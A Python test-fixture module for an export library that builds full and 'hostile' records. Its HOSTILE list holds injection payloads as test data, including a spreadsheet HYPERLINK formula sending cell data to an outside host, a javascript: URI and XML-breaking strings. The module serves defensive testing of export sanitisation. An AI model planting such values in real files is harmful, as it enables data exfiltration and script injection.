"""What the tests of exports share: records with every layer, hostile ones, a way to write."""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

import msgspec
from invented import document, spans
from invented_layers import hostile_layers, layered

from onrecord.schema import Entity, Occupancy, Record, Relation
from onrecord.views.formats import open_output

HOSTILE = (
    '=HYPERLINK("https://example.org?"&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
    "  =1+1",
    "＝1+1",
    "'=1",
    "''=1",
    "'plain",
    "a;=1,\tb",
    'quote " and, comma',
    "line\nbreak\r\nend",
    "lone \ud800 half",
    "\u202egnitset\u202c \u200fx",
    "NUL\x00 bell\x07 \ufffe\uffff",
    "]]>&amp;<x a='1'>",
    "_x0041_",
    '{"@id":"javascript:alert(1)"}',
    "😀 é e\u0301",
)
"""Words that try to be something else than words."""


def full() -> Record:
    """The invented report with every layer, and with mentions that mean somebody."""
    base = layered()
    text = base.document.text
    means = {"m1": "e1", "m2": "e5", "m6": "e3"}
    mentions = tuple(
        msgspec.structs.replace(m, entity=means.get(m.id, m.entity)) for m in base.mentions
    )
    entities = (
        *(e if e.id != "e1" else msgspec.structs.replace(e, country="NO") for e in base.entities),
        Entity(
            id="e5", type="Organisation", name="the mining board", sectors=("GOV", "BUS"),
            mentions=("m2",), members=("e3",), external={"wikidata": "Q42"},
        ),
    )  # fmt: skip
    visit = msgspec.structs.replace(base.events[2], recipients=("m2",), quad=1, cameo="042")
    return msgspec.structs.replace(
        base,
        mentions=mentions,
        entities=entities,
        events=(*base.events[:2], visit),
        occupancies=(
            Occupancy(
                holder="e3", position="deputy minister", organisation="e1", status="current",
                spans=spans(text, "Deputy Minister", "Oda Brill"), as_of="2031-03-03",
            ),
            Occupancy(
                holder="e3", position="mayor", organisation=None, status="former",
                spans=spans(text, "Brill"),
            ),
        ),
        relations=(
            Relation(
                type="BelongsTo", source="m6", target="m2", evidence=(0, 60), statement="a",
                confidence=0.5,
            ),
            Relation(type="CommWith", source="m1", target="m2", evidence=(0, 60)),
        ),
    )  # fmt: skip


def hostile() -> list[Record]:
    """A record for each hostile text, which stands in every place that takes words."""
    records = []
    for words in HOSTILE:
        base = hostile_layers(words)
        records.append(
            msgspec.structs.replace(
                base,
                document=document(
                    base.document.text, title=words, uri=words, publisher=words, published=words,
                    source_id=words, language=words,
                ),
                occupancies=(
                    Occupancy(
                        holder="e", position=words, organisation="e", status=words,
                        spans=((0, len(words)),), as_of=words,
                    ),
                ),
                relations=(
                    Relation(
                        type=words, source=words, target="m", evidence=(0, len(words)),
                        statement=words,
                    ),
                ),
                notes=(words,),
            )
        )  # fmt: skip
    return records


def write(name: str, records: Iterable[Record], out: Path) -> Path:
    """The records in the format of that name."""
    with open_output(name, out) as output:
        for record in records:
            output.add(record)
    return out
